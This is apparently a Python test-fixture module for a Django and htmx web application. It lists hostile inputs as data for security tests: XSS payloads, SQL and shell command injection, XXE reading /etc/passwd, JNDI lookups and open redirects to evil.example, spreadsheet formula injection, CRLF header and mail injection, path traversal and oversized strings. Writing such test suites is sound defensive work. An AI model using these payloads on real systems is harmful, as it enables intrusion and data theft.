"""What somebody who means harm would send, by name: texts, parameters, headers, file names, mail addresses.

All of it is data: whoever sends it, and where, is in the modules beside this one. Files as nobody should send
them are `tests/benchmarks/odd_files.py` and `tests/security/hostile_files.py`.
"""

from __future__ import annotations

from urllib.parse import quote

#: What a page sets when one of these is run in it.
HACKED = "window.hacked=1"
#: A host that no page may ask.
OUTSIDE = "//evil.example"

#: Characters that change how what follows is read, or that are none (Unicode 16, chapters 23.2 and 23.7).
BIDI = "\u202eback\u202c \u2066in\u2069 \u200f\u061c\u200b\u2060"
CONTROLS = "".join(map(chr, range(1, 32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0)))
NO_CHARACTERS = "\ufffe\uffff\ufeff\ufdd0\U0001fffe\U0010ffff\ue000"

#: Texts for any field. Each says `window.hacked` where something in it could run.
TEXTS: dict[str, str] = {
    "script": f"</script></title></textarea></style><script>{HACKED}</script>",
    "handler": f"\" autofocus onfocus={HACKED} onerror={HACKED} onload={HACKED} x='",
    "picture": f"'><img src={OUTSIDE}/a.png onerror={HACKED}><img src=x onerror={HACKED}>",
    "frame": f'"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe><object data={OUTSIDE}>',
    "SVG": f"<svg/onload={HACKED}><animate onbegin={HACKED} attributeName=x dur=1s></svg><math><a xlink:href="
    f"javascript:{HACKED}>x</a></math>",
    "style": f"<style>@import '{OUTSIDE}/a.css';</style><link rel=stylesheet href={OUTSIDE}/b.css>"
    f"<meta http-equiv=refresh content='0;url=https:{OUTSIDE}'><base href=https:{OUTSIDE}/>",
    "form": f"</form><form action=https:{OUTSIDE}><button formaction=javascript:{HACKED}>OK</button>",
    "htmx": f'<div data-hx-get="https:{OUTSIDE}/" data-hx-trigger="load" data-hx-on:load="{HACKED}" '
    f'hx-get="{OUTSIDE}" hx-trigger="load">x</div>',
    "javascript:": f"javascript:{HACKED}",
    "javascript: in disguise": f" \x01JaVa\tScRi\npt:{HACKED}//https://example.org/",
    "javascript: with entities": f"&#106;avascript&colon;{HACKED}",
    "data:": f"data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=#{HACKED}",
    "vbscript:": "vbscript:msgbox(1)",
    "Markdown": f"[x](javascript:{HACKED}) ![x]({OUTSIDE}/a.png) <javascript:{HACKED}> [y]: data:text/html,x",
    "template": f"{{{{ request }}}} {{% load %}} ${{{{7*7}}}} #{{7*7}} <%= {HACKED} %> "
    f"${{jndi:ldap:{OUTSIDE}/a}}",
    "format": "%s %d %(name)s %n %00 {0} {name.__class__} {} %",
    "SQL": "'; DROP TABLE claims_claim; -- \\' OR 1=1 /* \" `",
    "shell": "$(touch /tmp/hacked) `id` ; | & > x \\",
    "character data": "]]><!--<?xml version='1.0'?>&lt;&amp;&#0;<![CDATA[<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "JSON-LD": f'"}}</script><!--<script>--><script>{HACKED}</script>\\u003c/script\\u003e',
    "spreadsheet": '=HYPERLINK("https://evil.example","x")',
    "spreadsheet at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "spreadsheet behind spaces": "\t\r\n +1-cmd|'/C calc'!A0",
    "header lines": "Subject\r\nBcc: all@evil.example\r\n\r\nSet-Cookie: a=b\nX: y",
    "ends of lines": "one\u2028two\u2029three\x85four\r\nfive\x0bsix\x0cseven",
    "directions": BIDI,
    "control characters": CONTROLS,
    "no characters": NO_CHARACTERS,
    "NUL": "a\0b",
    "halves of characters": "a\ud800b\udfffc",
    "combining marks": "a" + "\u0301\u0489" * 300,
    "beyond the plane": "𠮷野家😀👩‍👩‍👧🏳️‍🌈",
    "folding": "ﬁﷺ İIıß ΣςΩ ＜script＞ ｊａｖａｓｃｒｉｐｔ： Ⅳ ①",
    "blank": "\u3000\u00a0\u200b\ufeff\u2800",
    "number": "9" * 400,
    "path": "../../../../etc/passwd\\..\\..\\..\\boot.ini",
}

#: Long ones, as functions: nobody needs them in memory who only asks for their names.
LONG_TEXTS: dict[str, str] = {
    "a long word": "x" * 300_000,
    "a long line": "大桥将于三月关闭。" * 30_000,
    "a hundred thousand lines": "a\r\n" * 100_000,
    "brackets": "[" * 100_000,
    "opening tags": "<a href='" * 20_000,
    "quotation marks": '"' * 100_000,
    "spaces": "a" + " " * 200_000 + "b",
    "hyphens": "-" * 100_000 + "x",
    "semicolons": ";" * 50_000,
    "combining marks without end": "a" + "\u0301" * 100_000,
    "digits": "1" * 100_000,
    "words by the thousand": "bridge opens " * 20_000,
}

#: Values of one parameter in an address as they stand there, after the name and "=".
PARAMETERS: dict[str, str] = {
    "nothing": "",
    "NUL": "%00",
    "NUL inside": "a%00b",
    "no UTF-8": "%ff%fe",
    "CESU": "%ed%a0%80%ed%b0%80",
    "overlong": "%c0%af%c0%ae",
    "cut percent": "%",
    "double percent": "%2500%253Cscript%253E",
    "plus": "+",
    "negative": "-1",
    "zero": "0",
    "huge": "9" * 30,
    "beyond what Python reads": "9" * 5000,
    "beyond bigint": "9223372036854775808",
    "beyond int": "2147483648",
    "exponent": "1e309",
    "NaN": "NaN",
    "infinite": "-Infinity",
    "hexadecimal": "0x10",
    "underscores": "1_000",
    "other digits": quote("１２٣"),
    "superscript": quote("²"),
    "fraction": "1.5",
    "true": "true",
    "list": "[1,2,{}]",
    "day": "2024-02-30",
    "year nought": "0000-00-00",
    "last day": "9999-12-31",
    "day with a zone": "9999-12-31T23:59:59-23:59",
    "other place": "https:%2f%2fevil.example/",
    "other place without scheme": "%2f%2fevil.example/",
    "other place behind a backslash": "/%5cevil.example/",
    "tsquery": quote("a & | ! <-> :* ( ) ' \\"),
    "open quotation mark": quote('"a -"b OR -'),
    "operators": quote("-" * 200 + ' OR OR "" *'),
    "wildcards": "%25_%25%5c",
    "regex": quote("(a+)+$[[:alpha:]]{1,99999}"),
    "long": "x" * 20_000,
    "long Chinese": quote("桥") * 3_000,
    **{f"text: {name}": quote(text, errors="surrogatepass") for name, text in TEXTS.items()},
}

#: Headers that the site, Django or what is between them reads.
HEADER_NAMES = (
    "Accept",
    "Accept-Language",
    "Accept-Encoding",
    "Content-Type",
    "Cookie",
    "If-Modified-Since",
    "If-None-Match",
    "If-Match",
    "Range",
    "Origin",
    "Referer",
    "Prefer",
    "HX-Request",
    "HX-Current-URL",
    "HX-Target",
    "HX-Trigger-Name",
    "HX-Prompt",
    "X-Forwarded-For",
    "X-Forwarded-Proto",
    "X-Forwarded-Host",
    "X-Request-ID",
    "User-Agent",
    "Host",
)
#: Values that may stand in one, as servers hand them on: latin-1 without ends of lines.
HEADERS: dict[str, str] = {
    "nothing": "",
    "commas": "," * 500,
    "semicolons": ";=" * 500,
    "quality": "en;q=NaN,zh;q=1e309,*;q=-1,a;q=0.0000000001",
    "languages": "-".join(["zh"] * 300) + ",x-" + "y" * 400,
    "long": "x" * 7_000,
    "quotation marks": '"' * 999 + "\\",
    "script": f"<script>{HACKED}</script>",
    "other place": "https://evil.example/\\@localhost:99999999/%00?next=//evil.example",
    "bad address": "http://[::1",
    "bad port": "http://testserver:port/",
    "not ASCII": "\xe6\xa1\xa5\xff\x80",
    "percent": "%00%0d%0aX:%20y%ff",
    "date": "Thu, 99 Xxx 99999999999999 25:61:61 GMT",
    "dates of long ago": "Fri, 31 Dec 9999 23:59:59 GMT",
    "ranges": "bytes=" + ",".join(f"{n}-" for n in range(500)),
    "tags": 'W/"' + '", "'.join("x" * 20 for _ in range(300)),
    "cookie": 'django_language="../../etc/passwd"; sessionid=x; csrftoken=<; a=\\"',
    "media types": 'text/html;q=x, */*;q=, application/ld+json;profile="x, ;,/, a/b/c',
    "type of a form": "multipart/form-data; boundary=",
    "numbers": "9" * 400,
    "addresses": "::ffff:127.0.0.1, 999.1.1.1, [::1]:99999, unknown, _x, fe80::1%lo",
    "template": "${jndi:ldap://evil.example/a} {{7*7}} %s",
}

#: Character sets that a form may say it is in: codecs of Python's that are none for text, or that raise.
CHARSETS = (
    "rot13",
    "hex",
    "base64",
    "zip",
    "bz2",
    "idna",
    "punycode",
    "undefined",
    "unicode_escape",
    "raw_unicode_escape",
    "utf-7",
    "utf-16",
    "utf-32",
    "utf-8-sig",
    "cp037",
    "gb18030",
    "iso-2022-kr",
    "mbcs",
    "x" * 500,
    "../utf-8",
    '"',
)

FILE_NAMES: dict[str, str] = {
    "path": "../../../etc/passwd",
    "path of Windows": "..\\..\\boot.ini",
    "device": "CON.md",
    "dots": "..",
    "hidden": ".htaccess",
    "nothing": "",
    "spaces": "   .md",
    "long": "桥" * 2_000 + ".md",
    "right to left": "bridge\u202edm.exe",
    "control characters": "a\x1b[31mb\x07\r\nX: y.md",
    "NUL": "a\0.md",
    "quotation marks": 'a"; filename="b.html"; x=\'.md',
    "script": f"<img src=x onerror={HACKED}>.md",
    "template": "{{7*7}}%s.md",
    "no characters": "\ufffe\uffff\ud800.md",
    "formula": "=1+1.md",
    "two endings": "a.md.exe;.html",
    "stream": "a.md::$DATA",
}

MAILS: dict[str, str] = {
    "lines": "a@example.org\r\nBcc: all@evil.example",
    "line feed": "a@example.org\nSubject: x",
    "several": "a@example.org,b@evil.example",
    "name": "X <a@example.org>",
    "script": f'"<script>{HACKED}</script>"@example.org',
    "quoted": '"\\"; DROP TABLE x; --"@example.org',
    "not ASCII": "桥@例子.中国",
    "soft hyphen": "a\u00ad@example.org",
    "percent": "%0d%0aBcc:b@evil.example@example.org",
    "literal": "a@[127.0.0.1]",
    "long": "a" * 300 + "@example.org",
    "dots": ".a..b.@example..org",
    "at signs": "@" * 1_000,
    "NUL": "a\0@example.org",
}

#: Addresses where one of the web is asked for; no page may make a link of one that it takes.
ADDRESSES: dict[str, str] = {
    "javascript:": f"javascript:{HACKED}",
    "mixed case": f"JaVaScRiPt:{HACKED}",
    "tab inside": f"java\tscript:{HACKED}",
    "line feed inside": f"java\nscript:{HACKED}",
    "control before": f"\x01javascript:{HACKED}",
    "entities": f"&#x6A;avascript:{HACKED}",
    "as a page": f"javascript://example.org/%0a{HACKED}",
    "data:": f"data:text/html,<script>parent.{HACKED}</script>",
    "vbscript:": "vbscript:msgbox(1)",
    "file:": "file:///etc/passwd",
    "no host": "https://",
    "no brackets": "http://[::1",
    "user": "https://example.org@evil.example/",
    "quotation marks": f'https://example.org/"onmouseover="{HACKED}',
    "angle brackets": f"https://example.org/'><script>{HACKED}</script>",
    "backslashes": "https:\\\\evil.example\\a",
    "port": "https://example.org:99999/",
    "spaces": "https://exam ple.org/ a b",
    "NUL": "https://example.org/\0",
    "halves": "https://example.org/\ud800",
    "bidi": "https://example.org/\u202egpj.exe",
    "letters": "https://еxample.org/桥",
    "label": f"https://{'a' * 64}.example.org/",
    "dots": "https://" + "." * 300 + "/",
    "long": "https://example.org/" + "a" * 5_000,
    "percent": "https://example.org/%00%ff%0d%0a",
}
